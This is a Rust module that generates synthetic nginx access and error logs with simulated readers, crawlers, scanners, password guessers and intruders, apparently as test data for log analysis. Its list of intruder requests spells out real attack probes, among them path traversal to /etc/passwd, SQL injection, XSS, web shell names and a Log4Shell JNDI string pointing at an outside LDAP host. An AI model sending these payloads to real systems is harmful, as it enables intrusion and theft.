//! An nginx server's access log: readers, polite crawlers, and those who probe, crawl without pause,
//! try known holes or guess passwords. A few lines are of the error log.

use super::address;
use super::calendar::Moment;
use super::crowd::{Trade, Visitor};
use super::draw::Draw;

/// What a visitor of the web server is up to.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(super) enum Role {
    Reader,
    Crawler,
    Harvester,
    Prober,
    Intruder,
    Tool,
    PasswordGuesser,
    Limited,
    Garbler,
}

const ROLES: [(u32, Role); 9] = [
    (60, Role::Reader),
    (8, Role::Crawler),
    (2, Role::Harvester),
    (8, Role::Prober),
    (10, Role::Intruder),
    (4, Role::Tool),
    (4, Role::PasswordGuesser),
    (2, Role::Limited),
    (3, Role::Garbler),
];

const SECTIONS: [&str; 8] =
    ["news", "products", "blog", "about", "support", "shop", "docs", "careers"];
const ASSETS: [&str; 10] = [
    "css/site.css",
    "js/app.js",
    "img/logo.png",
    "img/hero.jpg",
    "fonts/inter.woff2",
    "favicon.ico",
    "js/vendor.js",
    "css/print.css",
    "img/sprite.svg",
    "img/team.webp",
];
const BROWSERS: [&str; 5] = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Safari/605.1.15",
    "Mozilla/5.0 (X11; Linux x86_64; rv:132.0) Gecko/20100101 Firefox/132.0",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Mobile Safari/537.36",
];
const CRAWLER: &str = "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)";
const TOOLS: [&str; 5] = [
    "Nikto/2.5.0",
    "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)",
    "masscan/1.3",
    "Mozilla/5.0 zgrab/0.x",
    "sqlmap/1.8.4#stable (https://sqlmap.org)",
];
const MISSING: [&str; 12] = [
    "phpmyadmin",
    "admin",
    "manager/html",
    "old",
    "test",
    "cgi-bin/status",
    "console",
    "actuator/env",
    "api/v1/users",
    "solr",
    "jenkins",
    "owa",
];
const HOLES: [&str; 22] = [
    "/.git/config",
    "/.env",
    "/backup.sql",
    "/wp-config.php.bak",
    "/db.sql.gz",
    "/.svn/entries",
    "/static/../../../../etc/passwd",
    "/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh",
    "/download?file=..%2f..%2f..%2fetc%2fpasswd",
    "/img/..%2f..%2fconfig",
    "/items?id=1%20union%20select%20null,version()",
    "/items?id=1%20union%20all%20select%201",
    "/search?q=<script>alert(1)</script>",
    "/search?q=<svg/onload=alert(1)>",
    "/1337.php",
    "/c99.php",
    "/shell.php",
    "/wp-content/plugins/hello/readme.txt",
    "/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession",
    "/public/plugins/alertlist/../../../../etc/passwd",
    "/?x=${jndi:ldap://45.9.9.9:1389/a}",
    "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
];

/// The web server.
#[derive(Debug)]
pub(super) struct Nginx;

impl Trade for Nginx {
    type Role = Role;

    fn enter(&mut self, draw: &mut Draw) -> Visitor<Role> {
        let role = draw.weighted(&ROLES);
        let (steps, pause) = match role {
            Role::Reader => (draw.between(4, 50), (80, 9_000)),
            Role::Crawler => (draw.between(10, 60), (2_000, 15_000)),
            Role::Harvester => (draw.between(30, 110), (60, 280)),
            Role::Prober => (draw.between(6, 32), (150, 2_600)),
            Role::Intruder => (draw.between(2, 14), (300, 3_000)),
            Role::Tool => (draw.between(1, 9), (500, 8_000)),
            Role::PasswordGuesser => (draw.between(3, 16), (700, 5_000)),
            Role::Limited => (draw.between(3, 12), (400, 9_000)),
            Role::Garbler => (draw.between(1, 4), (1_000, 9_000)),
        };
        let number = draw.between(1, 1 << 20);
        Visitor { role, address: address::any(draw), step: 0, steps, pause, number }
    }

    fn line(&mut self, who: &Visitor<Role>, now: Moment, draw: &mut Draw) -> String {
        if who.role == Role::Limited {
            return error_line(who, now, draw);
        }
        let (request, status, size) = request(who, draw);
        let from = &who.address;
        let referer = match who.role {
            Role::Reader if who.step > 0 => "https://www.example.org/",
            _ => "-",
        };
        let agent = agent(who);
        let user = if who.role == Role::PasswordGuesser && who.number.is_multiple_of(2) {
            GUESSED[(who.number + who.step) as usize % GUESSED.len()]
        } else {
            "-"
        };
        let when = now.combined();
        format!(r#"{from} - {user} [{when}] "{request}" {status} {size} "{referer}" "{agent}""#)
    }
}

const GUESSED: [&str; 6] = ["admin", "root", "editor", "webmaster", "anna", "demo"];

/// Request line, status and size of the answer.
fn request(who: &Visitor<Role>, draw: &mut Draw) -> (String, u16, u64) {
    let size = draw.between(150, 48_000);
    match who.role {
        Role::Reader if draw.chance(620) => {
            (format!("GET /assets/{} HTTP/2.0", draw.pick(&ASSETS)), read_status(draw), size)
        }
        Role::Reader | Role::Crawler => {
            let (section, page) = (draw.pick(&SECTIONS), draw.between(1, 400));
            let query = if draw.chance(200) { "?page=2&sort=date" } else { "" };
            (format!("GET /{section}/{page}.html{query} HTTP/2.0"), read_status(draw), size)
        }
        Role::Harvester => {
            let (section, page) = (draw.pick(&SECTIONS), who.number % 1000 * 1000 + who.step);
            (format!("GET /{section}/item-{page} HTTP/1.1"), 200, size)
        }
        Role::Prober => {
            let missing = MISSING[(who.number + who.step) as usize % MISSING.len()];
            let status = draw.weighted(&[(8, 404), (1, 403), (1, 200)]);
            (format!("GET /{missing}/{}.php HTTP/1.1", who.step), status, 153)
        }
        Role::Intruder => {
            let hole = HOLES[(who.number + who.step * (1 + who.number % 3)) as usize % HOLES.len()];
            (format!("GET {hole} HTTP/1.1"), draw.pick(&[404, 404, 404, 403, 200]), 153)
        }
        Role::Tool => (format!("GET /{} HTTP/1.1", draw.pick(&SECTIONS)), 200, size),
        Role::PasswordGuesser if who.number.is_multiple_of(2) => {
            ("POST /login HTTP/1.1".to_owned(), 401, 180)
        }
        Role::PasswordGuesser => ("POST /wp-login.php HTTP/1.1".to_owned(), 200, 4_523),
        Role::Limited | Role::Garbler => match who.number % 3 {
            0 => (r"\x16\x03\x01\x02\x00\x01\x00\x01\xFC\x03\x03".to_owned(), 400, 157),
            1 => ("GET http://www.example.com/ HTTP/1.1".to_owned(), 400, 157),
            _ => ("CONNECT mail.example.com:25 HTTP/1.1".to_owned(), 405, 157),
        },
    }
}

fn read_status(draw: &mut Draw) -> u16 {
    draw.weighted(&[(88, 200), (7, 304), (2, 301), (2, 404), (1, 500)])
}

fn agent(who: &Visitor<Role>) -> &'static str {
    match who.role {
        Role::Crawler => CRAWLER,
        Role::Tool => TOOLS[who.number as usize % TOOLS.len()],
        Role::Garbler => "-",
        Role::Intruder if who.number.is_multiple_of(4) => "python-requests/2.32.3",
        _ => BROWSERS[who.number as usize % BROWSERS.len()],
    }
}

fn error_line(who: &Visitor<Role>, now: Moment, draw: &mut Draw) -> String {
    let page = draw.pick(&SECTIONS);
    let trouble = match who.number % 4 {
        0 => r#"user "admin" was not found in "/etc/nginx/htpasswd""#.to_owned(),
        1 => r#"user "anna": password mismatch"#.to_owned(),
        _ => r#"limiting requests, excess: 20.416 by zone "one""#.to_owned(),
    };
    format!(
        r#"{} [error] 811#811: *{} {trouble}, client: {}, server: www.example.org, request: "GET /{page} HTTP/1.1", host: "www.example.org""#,
        now.nginx_error(),
        who.number + who.step,
        who.address,
    )
}
